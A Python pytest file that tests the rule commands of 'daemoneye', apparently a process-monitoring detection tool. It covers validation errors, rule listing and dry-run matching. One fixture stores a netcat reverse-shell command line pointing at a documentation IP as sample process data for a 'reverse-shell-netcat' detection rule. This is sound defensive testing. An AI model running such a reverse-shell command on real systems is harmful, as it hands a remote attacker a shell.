"""`daemoneye rules list|show|validate|test` as a user runs them."""

from __future__ import annotations

import hashlib
import json
import textwrap
from pathlib import Path

import apsw
import pytest

from daemoneye import cli
from daemoneye.models import ProcessRecord, ScanDelta, ScanStats
from daemoneye.store import Store
from tests.unit.conftest import own_user_env

BAD_FILE = textwrap.dedent("""
    [[rule]]
    id = "fine"
    name = "Fine"
    severity = "low"
    query = "SELECT pid, start_time FROM processes WHERE name = 'nc'"

    [[rule]]
    id = "typo"
    name = "Typo"
    severity = "hihg"
    query = "SELECT pid, start_time FROM processes"
""")


@pytest.fixture
def home(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> Path:
    own_user_env(tmp_path, monkeypatch)
    return tmp_path


@pytest.fixture
def user_rules(home: Path) -> Path:
    directory = home / "cfg" / "daemoneye" / "rules.d"
    directory.mkdir(parents=True)
    return directory


@pytest.fixture
def db(home: Path) -> Path:
    """A store with one netcat reverse shell and one harmless process."""
    path = home / "state" / "daemoneye" / "daemoneye.db"

    def record(pid: int, name: str, argv: tuple[str, ...]) -> ProcessRecord:
        return ProcessRecord(
            pid,
            1,
            5.0,
            name,
            f"/usr/bin/{name}",
            argv,
            "/",
            0,
            "root",
            0,
            "S",
            1,
            1,
            0.0,
            None,
            False,
            5.0,
            5.0,
        )

    with Store.open(path) as store:
        added = (
            record(10, "nc", ("nc", "203.0.113.7", "4444", "-e", "/bin/sh")),
            record(11, "sleep", ("sleep", "9")),
        )
        store.apply(ScanDelta(6.0, added, (), (), (), (), ScanStats(0, 0, 0, 0, 0, 0, 0)))
    return path


def run(capsys: pytest.CaptureFixture[str], *args: str) -> tuple[int, str, str]:
    code = cli.main(list(args))
    captured = capsys.readouterr()
    return code, captured.out, captured.err


def test_validate_prints_every_problem_with_file_line_and_rule(
    tmp_path: Path, home: Path, capsys: pytest.CaptureFixture[str]
) -> None:
    path = tmp_path / "mine.toml"
    path.write_text(BAD_FILE)
    code, out, err = run(capsys, "rules", "validate", str(path))
    assert code == 2
    assert out.splitlines() == [
        f"{path}:11: rule 'typo': severity 'hihg' must be one of info, low, medium, high, "
        "critical (did you mean 'high'?)"
    ]
    assert "1 rule valid, 1 problem" in err


def test_validate_a_good_file_exits_0(
    tmp_path: Path, home: Path, capsys: pytest.CaptureFixture[str]
) -> None:
    path = tmp_path / "good.toml"
    path.write_text(BAD_FILE.replace("hihg", "high"))
    code, out, err = run(capsys, "rules", "validate", str(path))
    assert (code, out) == (0, "")
    assert "2 rules valid" in err


def test_validate_as_json(tmp_path: Path, home: Path, capsys: pytest.CaptureFixture[str]) -> None:
    path = tmp_path / "mine.toml"
    path.write_text(BAD_FILE)
    code, out, _ = run(capsys, "-o", "json", "rules", "validate", str(path))
    assert code == 2
    (problem,) = json.loads(out)
    assert (problem["line"], problem["rule_id"]) == (11, "typo")


def test_validate_a_directory_checks_every_rule_file_in_it(
    tmp_path: Path, home: Path, capsys: pytest.CaptureFixture[str]
) -> None:
    directory = tmp_path / "rules.d"
    directory.mkdir()
    (directory / "a.toml").write_text(BAD_FILE)
    (directory / "b.toml").write_text(
        BAD_FILE.replace('"fine"', '"other"').replace('"typo"', '"ok"').replace("hihg", "high")
    )
    (directory / "notes.txt").write_text("not a rule file")
    code, out, err = run(capsys, "rules", "validate", str(directory))
    assert code == 2
    assert out.splitlines() == [
        f"{directory / 'a.toml'}:11: rule 'typo': severity 'hihg' must be one of info, low, "
        "medium, high, critical (did you mean 'high'?)"
    ]
    assert "3 rules valid, 1 problem" in err
    assert "no such file" not in err
    (directory / "a.toml").unlink()
    assert run(capsys, "rules", "validate", str(directory))[0] == 0


def test_validate_an_empty_directory_or_a_missing_path_says_what_it_is(
    tmp_path: Path, home: Path, capsys: pytest.CaptureFixture[str]
) -> None:
    code, _, err = run(capsys, "rules", "validate", str(tmp_path / "nowhere"))
    assert code == 2 and "no such file or directory" in err
    (tmp_path / "empty").mkdir()
    code, _, err = run(capsys, "rules", "validate", str(tmp_path / "empty"))
    assert code == 2 and "no rule files (*.toml, *.yml, *.yaml)" in err


def test_list_shows_the_pack_overrides_and_problems(
    user_rules: Path, capsys: pytest.CaptureFixture[str]
) -> None:
    (user_rules / "local.toml").write_text(BAD_FILE.replace('id = "fine"', 'id = "crypto-miner"'))
    code, out, err = run(capsys, "rules", "list")
    assert code == 0
    lines = {line.split()[0]: line for line in out.splitlines()[1:]}
    assert (
        "reverse-shell-netcat" in lines
        and "built-in/command_and_control.toml" in lines["reverse-shell-netcat"]
    )
    assert "overrides built-in/impact.toml:" in lines["crypto-miner"]
    assert "local.toml:2" in lines["crypto-miner"]
    assert f"{user_rules / 'local.toml'}:11: rule 'typo': severity 'hihg'" in err


def test_show_one_rule(home: Path, capsys: pytest.CaptureFixture[str]) -> None:
    code, out, _ = run(capsys, "rules", "show", "sudo-negative-user-id")
    assert code == 0
    assert "CVE-2019-14287" in out and "sudo" in out and "privilege_escalation.toml" in out
    code, _, err = run(capsys, "rules", "show", "sudo-negative-user")
    assert code == 1 and "did you mean 'sudo-negative-user-id'" in err


def test_test_runs_a_rule_over_the_store_without_raising_alerts(
    db: Path, capsys: pytest.CaptureFixture[str]
) -> None:
    before = hashlib.sha256(db.read_bytes()).hexdigest()
    code, out, err = run(capsys, "-o", "json", "rules", "test", "reverse-shell-netcat")
    assert code == 0
    (alert,) = json.loads(out)
    assert (alert["rule_id"], alert["pid"]) == ("reverse-shell-netcat", 10)
    assert "1 would-be alert (none raised)" in err
    assert hashlib.sha256(db.read_bytes()).hexdigest() == before
    conn = apsw.Connection(str(db))
    assert conn.execute("SELECT count(*) FROM alerts").get == 0
    conn.close()


def test_test_runs_every_rule_of_a_file(
    tmp_path: Path, db: Path, capsys: pytest.CaptureFixture[str]
) -> None:
    path = tmp_path / "mine.toml"
    path.write_text(BAD_FILE)
    code, out, err = run(capsys, "rules", "test", str(path))
    assert code == 0
    assert [line.split()[0] for line in out.splitlines()[1:]] == ["fine"]
    assert "rule 'typo'" in err  # the broken rule is reported, the good one ran


def test_test_without_a_store_says_so(home: Path, capsys: pytest.CaptureFixture[str]) -> None:
    code, _, err = run(capsys, "rules", "test", "crypto-miner")
    assert code == 1 and "no store at" in err
